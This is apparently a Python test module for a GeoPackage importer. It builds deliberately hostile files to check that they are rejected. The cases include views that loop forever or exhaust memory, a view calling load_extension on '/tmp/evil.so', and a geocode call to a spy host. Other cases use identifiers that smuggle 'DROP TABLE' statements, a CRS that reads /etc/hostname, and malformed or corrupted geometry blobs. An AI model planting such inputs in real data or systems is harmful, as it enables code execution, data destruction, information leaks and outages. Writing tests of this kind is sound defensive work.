"""GeoPackages whose schema runs, whose pages lie, or that somebody else is writing."""

from __future__ import annotations

import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import numpy as np
import shapely
from pyogrio.raw import write

from tests.imports.hostile.case import SPY, Case
from twin_api.policy.documents import GeometryType

ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
NESTED_CRS = 'PROJCS["x",' * 50_000
COMPUTES, VIRTUAL, GENERATED, DAMAGED = "view that computes", "virtual table", "generated columns", "is damaged"


def _package(folder: Path, name: str = "thing.gpkg") -> Path:
    """Three points with a key, honestly written."""
    points = shapely.to_wkb(np.array([shapely.Point(678_000 + n, 5_540_000) for n in range(3)], dtype=object))
    write(folder / name, points, [np.array(["1", "2", "3"], dtype=object)], ["nr"], driver="GPKG", geometry_type="Point", crs="EPSG:25832")
    return folder / name


def _sql(name: str, script: str, expected: str | int, source_layer: str | None = "thing") -> Case:
    def make(folder: Path) -> Path:
        path = _package(folder)
        with closing(sqlite3.connect(path)) as connection:
            connection.executescript(script)
        return path

    return Case(f"geopackage: {name}", make, expected, source_layer=source_layer)


def _bytes(name: str, change: Callable[[bytearray], bytes | bytearray], expected: str | int) -> Case:
    def make(folder: Path) -> Path:
        path = _package(folder)
        path.write_bytes(change(bytearray(path.read_bytes())))
        return path

    return Case(f"geopackage: {name}", make, expected)


def _geometry(name: str, blob: bytes, expected: str | int, type_: GeometryType = "Point", fatal: bool = False) -> Case:
    def make(folder: Path) -> Path:
        path = _package(folder)
        with closing(sqlite3.connect(path)) as connection:
            for (trigger,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
                connection.execute(f'DROP TRIGGER "{trigger}"')
            connection.execute("UPDATE thing SET geom = ? WHERE fid = 2", [blob])
            connection.commit()
        return path

    return Case(f"geopackage: {name}", make, expected, type_, fatal=fatal)


def _wkb(body: bytes) -> bytes:
    """With the header of a GeoPackage in front."""
    return b"GP\0\1" + struct.pack("<i", 25832) + body


def _nested(depth: int) -> bytes:
    """A collection in a collection in a collection …"""
    return _wkb(struct.pack("<BII", 1, 7, 1) * depth + struct.pack("<BIdd", 1, 1, 678_000, 5_540_000))


def _logged(folder: Path) -> Path:
    """In the middle of somebody's work: the newest rows are in the log only."""
    path = _package(folder, "whole.gpkg")
    connection = sqlite3.connect(path)
    connection.executescript("PRAGMA journal_mode = WAL; CREATE TABLE x (y);")
    for ending in ("", "-wal"):
        (folder / f"thing.gpkg{ending}").write_bytes((folder / f"whole.gpkg{ending}").read_bytes())
    connection.close()
    path.unlink()
    return folder / "thing.gpkg"


def _was_logged(folder: Path) -> Path:
    """Opening such a file makes SQLite write beside it."""
    path = _package(folder)
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
    return path


def _rolling_back(folder: Path) -> Path:
    path = _package(folder)
    path.with_name("thing.gpkg-journal").write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + b"\0" * 504)
    return path


def _replaced(at: int, octets: bytes) -> Callable[[bytearray], bytearray]:
    def change(content: bytearray) -> bytearray:
        content[at : at + len(octets)] = octets
        return content

    return change


def _torn(content: bytearray) -> bytearray:
    """Every page but the first is noise."""
    return content[:4096] + bytes(n * 37 % 251 for n in range(len(content) - 4096))


CASES = [
    _sql("a view that counts for ever", f"CREATE VIEW v AS {ENDLESS} SELECT max(x) AS m FROM c", COMPUTES),
    _sql("a view without end", f"CREATE VIEW v AS {ENDLESS} SELECT x FROM c", COMPUTES),
    _sql("a view of everything with everything", "CREATE TABLE n (x); INSERT INTO n VALUES (1)" + ", (1)" * 99 + "; CREATE VIEW v AS SELECT a.x FROM n a, n b, n c, n d, n e ORDER BY 1", COMPUTES),
    _sql("a view that swells", "CREATE VIEW v AS SELECT hex(zeroblob(900000000)) AS x", COMPUTES),
    _sql("a view that loads code", "CREATE VIEW v AS SELECT load_extension('/tmp/evil.so') AS x", COMPUTES),
    _sql("a view that asks an address", f"CREATE VIEW v AS SELECT ogr_geocode('http://{SPY}/x') AS x", COMPUTES),
    _sql("a view offered as a layer", "CREATE VIEW v AS SELECT * FROM thing; INSERT INTO gpkg_contents (table_name, data_type, srs_id) VALUES ('v', 'features', 25832)", "is no table", "v"),
    _sql("a view in place of the contents", "ALTER TABLE gpkg_contents RENAME TO c; CREATE VIEW gpkg_contents AS SELECT * FROM c", COMPUTES),
    _sql("a view in place of the coordinate systems", f"DROP TABLE gpkg_spatial_ref_sys; CREATE VIEW gpkg_spatial_ref_sys AS {ENDLESS} SELECT x FROM c", COMPUTES),
    _sql("the two views of the standard", "CREATE VIEW st_spatial_ref_sys AS SELECT srs_name, srs_id, organization, organization_coordsys_id, definition, description FROM gpkg_spatial_ref_sys", 3),
    _sql("a virtual table", "CREATE VIRTUAL TABLE f USING fts5(x)", VIRTUAL),
    _sql("a virtual table called an index", "CREATE VIRTUAL TABLE rtree_x_geom USING fts5(x)", VIRTUAL),
    _sql("a virtual table offered as a layer", "CREATE VIRTUAL TABLE f USING fts5(x); INSERT INTO gpkg_contents (table_name, data_type) VALUES ('f', 'attributes')", VIRTUAL),
    _sql("a column that swells", "ALTER TABLE thing ADD COLUMN g TEXT AS (hex(zeroblob(900000000)))", GENERATED),
    _sql("triggers that destroy", "CREATE TRIGGER t AFTER INSERT ON thing BEGIN DELETE FROM thing; END", 3),
    _sql("more layers than anybody counts", "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 5000) INSERT INTO gpkg_contents (table_name, data_type, identifier) SELECT 'x' || x, 'attributes', x FROM c", "more than 1000 layers"),
    _sql("a layer that is not there", "INSERT INTO gpkg_contents (table_name, data_type) VALUES ('gone', 'features')", "is no table"),
    _sql("a count of features that lies", "UPDATE gpkg_ogr_contents SET feature_count = 1000000000000000", 3),
    _sql("a column with quotation marks", """ALTER TABLE thing ADD COLUMN "a""; DROP TABLE thing; --" TEXT""", 3),
    _sql("a table with quotation marks", """CREATE TABLE "x"" y'; DROP TABLE thing; --" (a)""", 3),
    _sql("a coordinate system that nests", f"UPDATE gpkg_spatial_ref_sys SET definition = '{NESTED_CRS}', organization = 'NONE' WHERE srs_id = 25832", "coordinate reference system"),
    _sql("a coordinate system that reads a file", "UPDATE gpkg_spatial_ref_sys SET organization = 'NONE', organization_coordsys_id = 1, definition = 'PROJCS[\"x\",GEOGCS[\"y\",DATUM[\"z\",SPHEROID[\"s\",6378137,298]],PRIMEM[\"g\",0],UNIT[\"d\",0.0174532925199433]],PROJECTION[\"Transverse_Mercator\"],EXTENSION[\"PROJ4\",\"+proj=tmerc +nadgrids=/etc/hostname\"]]' WHERE srs_id = 25832", "no transformation"),
    _sql("a coordinate system that is an address", f"UPDATE gpkg_spatial_ref_sys SET organization = 'NONE', definition = 'http://{SPY}/crs' WHERE srs_id = 25832", "coordinate reference system"),
    _sql("a bounding box that lies", "UPDATE gpkg_contents SET min_x = 1e308, max_x = -1e308, min_y = 'x'", 3),
    _sql("a spatial index that lies", "DELETE FROM rtree_thing_geom", 3),
    _sql("contents removed", "DROP TABLE gpkg_contents", DAMAGED),
    _geometry("a geometry of a hundred thousand collections", _nested(100_000), "too costly", fatal=True),
    _geometry("a geometry with four thousand million points", _wkb(struct.pack("<BII", 1, 2, 2**32 - 1)), "fid 2"),
    _geometry("a line of more points than any border has", _wkb(struct.pack("<BII", 1, 2, 1_200_000) + struct.pack("<dd", 678_000, 5_540_000) * 1_200_000), "more than 1000000 points", "LineString"),
    _geometry("a geometry that ends at once", _wkb(b"\1"), "fid 2"),
    _geometry("a geometry of noise", bytes(n * 37 % 251 for n in range(5_000)), "fid 2"),
    _geometry("a geometry of another kind", _wkb(struct.pack("<BI", 1, 99) + b"\0" * 64), "fid 2"),
    Case("geopackage: half of it in a log", _logged, "being edited"),
    Case("geopackage: in the middle of a rollback", _rolling_back, "being edited"),
    Case("geopackage: that keeps a log", _was_logged, 3),
    _bytes("another application's number", _replaced(68, b"EVIL"), "content is not"),
    _bytes("a page size of nought", _replaced(16, b"\0\0"), DAMAGED),
    _bytes("every page noise", _torn, DAMAGED),
    _bytes("half of it", lambda content: content[: len(content) // 2], "is damaged"),
    _bytes("nothing but a head", lambda content: content[:100], DAMAGED),
]  # fmt: skip
